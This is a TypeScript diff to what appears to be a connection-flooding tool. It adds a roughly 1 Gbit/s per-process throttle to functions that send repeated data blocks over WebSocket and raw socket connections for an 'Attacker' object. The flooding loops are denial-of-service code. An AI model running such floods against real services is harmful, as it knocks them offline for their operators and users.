@@ -8,6 +8,24 @@ const blockBytes = 65_536
 /** What may wait in this process for each connection: enough that the kernel never runs dry. */
 const waitingBytes = 4 * blockBytes
 
+/** Of one process: together they fill a line of 1 Gbit/s. What fills the line itself is nothing that a service can refuse. */
+const bytesPerSecond = 62_500_000
+
+let allowance = 0
+let refilledAt = 0
+
+/** Waits until the line of this process takes another block. */
+async function line(attacker: Attacker, bytes: number): Promise<void> {
+  for (;;) {
+    const now = performance.now()
+    allowance = Math.min(bytesPerSecond / 10, allowance + ((now - refilledAt) / 1_000) * bytesPerSecond)
+    refilledAt = now
+    if (allowance >= bytes || !attacker.attacking) break
+    await attacker.pause(1)
+  }
+  allowance -= bytes
+}
+
 /** Repeats `unit` to about 64 KiB; returns also how many that are. */
 function blockOf(unit: Buffer): { readonly block: Buffer; readonly units: number } {
   const units = Math.max(1, Math.floor(blockBytes / unit.length))
@@ -19,6 +37,7 @@ export async function floodSocket(attacker: Attacker, socket: WebSocketClient, u
   const { block, units } = blockOf(unit)
   while (attacker.attacking && socket.open) {
     if (socket.waitingBytes < waitingBytes) {
+      await line(attacker, block.length)
       socket.sendBytes(block)
       attacker.count(what, units)
     } else await socket.drained()
@@ -31,6 +50,7 @@ export async function floodConnection(attacker: Attacker, socket: Socket, unit: 
   const { block, units } = blockOf(unit)
   while (attacker.attacking && !socket.destroyed && socket.writable) {
     if (socket.writableLength < waitingBytes) {
+      await line(attacker, block.length)
       socket.write(block)
       attacker.count(what, units)
     } else await drained(socket)
